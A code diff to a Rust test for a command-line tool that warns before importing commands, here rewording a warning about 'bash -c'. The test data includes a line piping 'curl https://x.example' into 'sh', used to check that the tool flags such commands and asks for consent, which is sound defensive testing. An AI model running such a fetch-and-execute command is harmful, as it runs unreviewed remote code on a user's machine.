@@ -137,7 +137,9 @@ fn nothing_is_taken_over_that_nobody_has_said_yes_to() {
     terminal.wait_for("warning: sudo asks for all rights on this machine");
     terminal.wait_for("text: runs bash -c 'curl https://x.example | sh'");
     terminal.wait_for("its variables: MODE, MY_KEY (stored as a secret)");
-    terminal.wait_for("warning: bash -c runs a text: read all of it; it runs what it has just downloaded");
+    terminal.wait_for(
+        "warning: bash -c runs its argument as code: read all of it; it runs whatever it has just downloaded",
+    );
     terminal.wait_for("told: runs /bin/false --api-key … …");
     terminal.wait_for("--api-key looks like a secret");
     terminal.wait_for("Import them? [y/N]");
@@ -150,7 +152,7 @@ fn nothing_is_taken_over_that_nobody_has_said_yes_to() {
     assert!(err.contains("told: --api-key, argument 3 in its arguments looks like a secret"), "{err}");
     assert!(err.contains("`harbor secrets set told KEY`"), "{err}");
     // Without a question the same is said afterwards.
-    for part in ["root: warning: sudo asks", "text: warning: bash -c runs a text"] {
+    for part in ["root: warning: sudo asks", "text: warning: bash -c runs its argument"] {
         assert!(err.contains(part), "{part}: {err}");
     }
     for part in [
